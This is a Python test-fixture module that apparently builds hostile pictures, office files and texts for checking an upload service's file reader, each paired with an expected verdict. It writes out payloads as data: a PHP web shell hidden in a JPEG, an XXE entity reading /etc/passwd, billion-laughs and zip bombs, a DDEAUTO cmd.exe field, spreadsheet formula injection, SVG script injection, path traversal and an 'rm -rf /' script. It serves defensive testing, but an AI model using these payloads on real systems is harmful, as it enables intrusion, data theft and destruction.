"""Makes pictures, office documents and texts that attack what reads them: other members of the known kinds."""

import io
import struct
import zipfile
import zlib

import numpy as np
import pillow_heif
from PIL import Image, PngImagePlugin

from services.files.tests.reading import made_files as made
from services.files.tests.reading.hostile_files import DOCX, JPEG, XLSX

pillow_heif.register_heif_opener()
RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'


def png(width: int, height: int, *chunks: tuple[bytes, bytes], content: bytes = b"") -> bytes:
    """A PNG of any chunks."""

    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    rest = (
        b"".join(chunk(*each) for each in chunks) + chunk(b"IDAT", content or zlib.compress(b"")) + chunk(b"IEND", b"")
    )
    return b"\x89PNG\r\n\x1a\n" + header + rest


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG that claims other sides than it has."""
    at = JPEG.index(b"\xff\xc0") + 5
    return JPEG[:at] + struct.pack(">HH", height, width) + JPEG[at + 4 :]


def gif_of(width: int, height: int) -> bytes:
    """A GIF that claims other sides than it has."""
    gif = made.saved(made.picture(size=(20, 20)), "GIF")
    return gif[:6] + struct.pack("<HH", width, height) + gif[10:]


def tiff_in_a_circle() -> bytes:
    """A TIFF whose last page names the first one as the next."""
    tiff = bytearray(made.saved(made.noise(40, 40), "TIFF"))
    first = struct.unpack("<I", tiff[4:8])[0]
    count = struct.unpack("<H", tiff[first : first + 2])[0]
    tiff[first + 2 + 12 * count : first + 6 + 12 * count] = struct.pack("<I", first)
    return bytes(tiff)


def archive(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made_archive:
        for name, content in members:
            made_archive.writestr(name, content)
    return out.getvalue()


def lying(content: bytes, name: bytes, size: int) -> bytes:
    """An archive whose member claims another size when unpacked, in the directory and before the member."""
    changed = bytearray(content)
    for mark, at_name, at_size in ((b"PK\x01\x02", 46, 24), (b"PK\x03\x04", 30, 22)):
        at = -1
        while (at := changed.find(mark, at + 1)) >= 0:
            if changed[at + at_name :].startswith(name):
                changed[at + at_size : at + at_size + 4] = struct.pack("<I", size)
    return bytes(changed)


def locked(content: bytes) -> bytes:
    """An archive whose members say that they need a password."""
    changed = bytearray(content)
    for mark, at_flags in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = -1
        while (at := changed.find(mark, at + 1)) >= 0:
            changed[at + at_flags] |= 1
    return bytes(changed)


def far_cells() -> bytes:
    """A sheet whose only cells are its first and its very last one."""
    return made.workbook([["a"]], far=("XFD1048576", "z"))


def dense_text() -> Image.Image:
    """A picture full of tiny text: thousands of places for OCR."""
    page = made.picture(("4711 ABC def 42.50 EUR " * 14,), (3_000, 120)).resize((1_500, 60))
    sheet = Image.new("RGB", (3_000, 3_000), "white")
    for top in range(0, 3_000, 30):
        for left in (0, 1_500):
            sheet.paste(page.resize((1_500, 30)), (left, top))
    return sheet


def static() -> Image.Image:
    """A picture of nothing but noise."""
    return Image.fromarray(np.random.default_rng(3).integers(0, 255, (3_000, 3_000, 3), dtype=np.uint8))


def with_text_chunk() -> bytes:
    """A PNG with the test string in a compressed comment."""
    note = PngImagePlugin.PngInfo()
    note.add_text("Comment", made.EICAR, zip=True)
    return made.saved(made.picture(size=(40, 40)), "PNG", pnginfo=note)


HOSTILE_PICTURES = {
    "png of two billion": ("a.png", lambda: png(2_000_000_000, 2_000_000_000), "too_large"),
    "jpeg of 65,000": ("a.jpg", lambda: jpeg_of(65_000, 65_000), "too_large"),
    "gif of 65,000": ("a.gif", lambda: gif_of(65_000, 65_000), "too_large"),
    "webp of 12,000": (
        "a.webp",
        lambda: made.saved(Image.new("L", (12_000, 12_000)), "WEBP", quality=1, method=0),
        "harmless",
    ),
    "png without pixels": ("a.png", lambda: png(100, 100), "corrupt"),
    "png without sides": ("a.png", lambda: png(0, 0), "corrupt"),
    "comment of a gigabyte": (
        "a.png",
        lambda: png(9, 9, (b"zTXt", b"a\x00\x00" + zlib.compress(bytes(500_000_000), 9))),
        "harmless",
    ),
    "profile of a gigabyte": (
        "a.png",
        lambda: png(9, 9, (b"iCCP", b"a\x00\x00" + zlib.compress(bytes(500_000_000), 9))),
        "harmless",
    ),
    "tiff in a circle": ("a.tif", tiff_in_a_circle, "harmless"),
    "truncated webp": ("a.webp", lambda: made.saved(made.noise(300, 300), "WEBP")[:2_000], "corrupt"),
    "truncated gif": ("a.gif", lambda: made.saved(made.noise(300, 300), "GIF")[:2_000], "corrupt"),
    "truncated tiff": ("a.tif", lambda: made.saved(made.noise(300, 300), "TIFF")[:9_000], "corrupt"),
    "truncated heic": ("a.heic", lambda: made.saved(made.noise(300, 300), "HEIF")[:900], "corrupt"),
    "jpeg of one marker": ("a.jpg", lambda: b"\xff\xd8\xff\xe0", "corrupt"),
    "gif that is a script": (
        "a.gif",
        lambda: b"GIF89a/*" + bytes(9) + b"*/=1;<script>alert(1)</script>",
        "type_mismatch",
    ),
    "pdf behind a picture": ("a.jpg", lambda: JPEG + made.pdf(), "type_mismatch"),
    "php in a picture": ("a.jpg", lambda: JPEG + b"<?php system($_GET['c']); ?>", "type_mismatch"),
    "web page in a comment": (
        "a.jpg",
        lambda: made.saved(made.picture(), "JPEG", comment=b"<script>alert(1)</script>"),
        "type_mismatch",
    ),
    "eicar in a comment": ("a.jpg", lambda: made.saved(made.picture(), "JPEG", comment=made.EICAR.encode()), "malware"),
    "eicar in a packed comment": ("a.png", with_text_chunk, "malware"),
    "eicar behind a picture": ("a.png", lambda: made.saved(made.picture(), "PNG") + made.EICAR.encode(), "malware"),
    "wrong extension, a picture": ("a.pdf", lambda: JPEG, "accepted"),
    "page full of tiny text": ("a.png", lambda: made.saved(dense_text(), "PNG"), "harmless"),
    "picture of noise": ("a.jpg", lambda: made.saved(static(), "JPEG", quality=60), "harmless"),
    "svg named as a picture": ("a.png", lambda: b"<svg xmlns='x' onload='alert(1)'/>", "type_mismatch"),
    "svg behind a declaration": (
        "a.svg",
        lambda: b"<?xml version='1.0'?>\n<!-- a --><svg><script>alert(1)</script></svg>",
        "type_not_allowed",
    ),
    "svg with its comment first": (
        "a.svg",
        lambda: b"<!-- a --><svg><script>alert(1)</script></svg>",
        "type_not_allowed",
    ),
    "svg in utf-16": (
        "a.svg",
        lambda: "\ufeff<svg><script>alert(1)</script></svg>".encode("utf-16-le"),
        "type_not_allowed",
    ),
    "bitmap": ("a.bmp", lambda: made.saved(made.picture(), "BMP"), "type_not_allowed"),
    "icon": ("a.ico", lambda: made.saved(made.picture(size=(32, 32)), "ICO"), "type_not_allowed"),
}
HOSTILE_OFFICE = {
    "laughs in docx": ("a.docx", lambda: made.with_member(DOCX, "word/document.xml", LAUGHS), "bomb"),
    "laughs in xlsx": ("a.xlsx", lambda: made.with_member(XLSX, "xl/workbook.xml", LAUGHS), "bomb"),
    "laughs in utf-16": (
        "a.docx",
        lambda: made.with_member(
            DOCX, "word/document.xml", LAUGHS.decode().replace("?>", " encoding='UTF-16'?>", 1).encode("utf-16")
        ),
        "bomb",
    ),
    "file from outside": ("a.docx", lambda: made.with_member(DOCX, "word/document.xml", OUTSIDE), "bomb"),
    "many small bombs": (
        "a.docx",
        lambda: archive(
            ("word/document.xml", b"<a/>"), *((f"word/media/{n}.png", bytes(3_000_000)) for n in range(30))
        ),
        "bomb",
    ),
    "bomb packed twice": (
        "a.docx",
        lambda: made.with_member(DOCX, "word/media/a.zip", archive(("a", archive(("b", bytes(90_000_000)))))),
        "harmless",
    ),
    "bomb that hides its size": (
        "a.docx",
        lambda: lying(made.with_member(DOCX, "word/media/a.png", bytes(60_000_000)), b"word/media/a.png", 1_000),
        "harmless",
    ),
    "bzip2 bomb": (
        "a.docx",
        lambda: archive(("word/document.xml", b"<a/>"), ("a", bytes(300_000_000)), method=zipfile.ZIP_BZIP2),
        "bomb",
    ),
    "huge picture in docx": (
        "a.docx",
        lambda: made.with_member(DOCX, "word/media/a.png", png(60_000, 60_000)),
        "harmless",
    ),
    "twenty thousand members": (
        "a.docx",
        lambda: archive(("word/document.xml", b"<a/>"), *((f"a/{n}", b"") for n in range(20_000))),
        "bomb",
    ),
    "members that leave the folder": (
        "a.docx",
        lambda: made.with_member(DOCX, "../../../../tmp/a.xml", b"<a/>"),
        "harmless",
    ),
    "member with a password": ("a.docx", lambda: locked(DOCX), "encrypted"),
    "sheet with a password": ("a.xlsx", lambda: locked(XLSX), "encrypted"),
    "truncated xlsx": ("a.xlsx", lambda: XLSX[: len(XLSX) * 2 // 3], "corrupt"),
    "docx without its document": (
        "a.docx",
        lambda: archive(("[Content_Types].xml", b"<Types/>"), ("word/other.xml", b"<a/>")),
        "type_mismatch",
    ),
    "docx of broken xml": ("a.docx", lambda: made.with_member(DOCX, "word/document.xml", b"<w:document"), "corrupt"),
    "deep xml": (
        "a.docx",
        lambda: made.with_member(DOCX, "word/document.xml", b"<a>" * 200_000 + b"</a>" * 200_000),
        "harmless",
    ),
    "template from outside": (
        "a.docx",
        lambda: made.with_member(
            DOCX, "word/_rels/settings.xml.rels", RELATIONS % (b"attachedTemplate", b"https://example.org/a.dotm")
        ),
        "active_content",
    ),
    "object from outside": (
        "a.docx",
        lambda: made.with_member(
            DOCX, "word/_rels/document.xml.rels", RELATIONS % (b"oleObject", b"https://example.org/a")
        ),
        "active_content",
    ),
    "link that a person may click": (
        "a.docx",
        lambda: made.with_member(
            DOCX, "word/_rels/footer1.xml.rels", RELATIONS % (b"hyperlink", b"https://example.org/a")
        ),
        "accepted",
    ),
    "dde field": (
        "a.docx",
        lambda: made.with_member(
            DOCX,
            "word/document.xml",
            made.member(DOCX, "word/document.xml").replace(
                b"<w:body>", b"<w:body><w:p><w:r><w:instrText> DDEAUTO c:\\cmd.exe </w:instrText></w:r></w:p>"
            ),
        ),
        "active_content",
    ),
    "old macro sheet": (
        "a.xlsx",
        lambda: made.with_member(XLSX, "xl/macrosheets/sheet1.xml", b"<a/>"),
        "active_content",
    ),
    "active x": ("a.docx", lambda: made.with_member(DOCX, "word/activeX/activeX1.xml", b"<a/>"), "active_content"),
    "macros under another name": (
        "a.docm",
        lambda: made.with_member(
            made.with_member(DOCX, "word/a.bin", b"x"),
            "[Content_Types].xml",
            made.member(DOCX, "[Content_Types].xml").replace(
                b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"vnd.ms-word.document.macroEnabled.main+xml",
            ),
        ),
        "active_content",
    ),
    "object in xlsx": ("a.xlsx", lambda: made.with_member(XLSX, "xl/embeddings/oleObject1.bin", b"x"), "embedded_file"),
    "program in docx": ("a.docx", lambda: made.with_member(DOCX, "word/embeddings/a.exe", b"MZ"), "embedded_file"),
    "document in docx": ("a.docx", lambda: made.with_member(DOCX, "word/embeddings/a.docx", DOCX), "embedded_file"),
    "eicar in xlsx": ("a.xlsx", lambda: made.workbook([[made.EICAR]]), "malware"),
    "eicar in an archive in docx": (
        "a.docx",
        lambda: made.with_member(DOCX, "word/media/a.zip", archive(("eicar.com", made.EICAR.encode()))),
        "malware",
    ),
    "far cells": ("a.xlsx", far_cells, "accepted"),
    "formula that calls a program": ("a.xlsx", lambda: made.workbook([["=cmd|'/C calc'!A0"]]), "harmless"),
    "slides": ("a.pptx", lambda: archive(("ppt/presentation.xml", b"<a/>")), "type_not_allowed"),
    "archive with eicar": ("a.zip", lambda: archive(("eicar.com", made.EICAR.encode())), "type_not_allowed"),
    "nested archives": ("a.zip", lambda: archive(("a.zip", archive(("b.zip", b"PK")))), "type_not_allowed"),
    "old sheet": ("a.xls", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2_000), "type_not_allowed"),
}
HOSTILE_TEXTS = {
    "empty picture": ("a.jpg", lambda: b"", "empty"),
    "empty table": ("a.csv", lambda: b"", "empty"),
    "only spaces": ("a.txt", lambda: b" \r\n\t\n" * 20, "empty"),
    "only a mark": ("a.txt", lambda: b"\xef\xbb\xbf", "empty"),
    "program of linux": ("a.bin", lambda: b"\x7fELF\x02\x01\x01" + bytes(200), "type_not_allowed"),
    "program named as a document": ("a.docx", lambda: b"\x7fELF\x02\x01\x01" + bytes(200), "type_mismatch"),
    "program named as text": ("a.txt", lambda: b"MZ\x90\x00" + bytes(200), "type_mismatch"),
    "shell script": ("a.sh", lambda: b"#!/bin/sh\nrm -rf /\n", "type_not_allowed"),
    "web page": ("a.htm", lambda: b"\n <HTML><body onload=alert(1)>", "type_not_allowed"),
    "web page named as a pdf": ("a.pdf", lambda: b"<!DOCTYPE html><html></html>", "type_mismatch"),
    "rich text": ("a.rtf", lambda: b"{\\rtf1\\ansi hello}", "type_not_allowed"),
    "postscript": ("a.ps", lambda: b"%!PS-Adobe-3.0\n(a) print\n", "type_not_allowed"),
    "script that is only text": ("a.js", lambda: b"alert(1)\n", "harmless"),
    "video": ("a.mp4", lambda: bytes.fromhex("000000186674797069736f6d") + bytes(300), "type_not_allowed"),
    "compressed": ("a.gz", lambda: bytes.fromhex("1f8b0800") + bytes(300), "type_not_allowed"),
    "one line of 20 MB": ("a.csv", lambda: b"a" * 20_000_000, "harmless"),
    "one quote of 20 MB": ("a.csv", lambda: b'a,"' + b"b\n" * 10_000_000, "harmless"),
    "million cells": ("a.csv", lambda: b"1,2,3,4,5,6,7,8,9,0\n" * 100_000, "too_large"),
    "nothing but delimiters": ("a.csv", lambda: b"," * 5_000_000, "harmless"),
    "million short lines": ("a.txt", lambda: b"a\n" * 2_000_000, "harmless"),
    "letters that combine": ("a.txt", ("e" + "\u0301" * 2_000_000).encode, "harmless"),
    "text with control signs": ("a.txt", lambda: b"Total\x1b[2J\x00\x07 42.50\n", "harmless"),
    "text that runs backwards": ("a.txt", "Total \u202e05.24 RUE\u202c".encode, "harmless"),
    "half a letter": ("a.txt", lambda: b"\xff\xfea", "corrupt"),
    "formula in csv": ("a.csv", lambda: b"name,total\n=cmd|'/C calc'!A0,42\n", "harmless"),
    "eicar behind spaces": ("a.txt", lambda: b" " * 9_000 + made.EICAR.encode(), "malware"),
}
